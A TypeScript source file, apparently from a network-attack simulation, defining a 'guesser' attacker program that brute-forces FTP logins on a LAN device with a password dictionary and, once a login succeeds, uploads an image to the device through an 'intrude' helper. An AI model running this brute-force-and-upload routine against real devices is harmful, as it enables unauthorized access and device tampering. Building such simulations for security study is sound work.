import type { Endpoint } from '../../../tcp/listener.ts';
import { FtpCaller, intrude } from '../ftp-caller.ts';
import type { AttackerProgram } from '../program.ts';

export interface GuesserKnowledge {
  readonly bulk: Endpoint;
  readonly userName: string;
  /** The passwords that it tries. */
  readonly dictionary: readonly string[];
  readonly image: Uint8Array;
}

/** What a guesser has to say. */
export interface GuesserReport {
  readonly tries: number;
  /** The one that opened. */
  readonly found: string | undefined;
  readonly upload: string;
}

/** On the LAN: tries passwords at the device's own port, one connection after the other. */
export const guesser: AttackerProgram = async ({ channel, knows }) => {
  const { bulk, userName, dictionary, image } = knows as GuesserKnowledge;
  for (const [at, password] of dictionary.entries()) {
    const caller = await FtpCaller.open(bulk);
    const reply = await caller.login(userName, password);
    caller.close();
    if (!reply.startsWith('230')) continue;
    const { upload } = await intrude(bulk, { userName, password }, image);
    channel.say('report', { tries: at + 1, found: password, upload });
    return;
  }
  channel.say('report', { tries: dictionary.length, found: undefined, upload: '' });
};
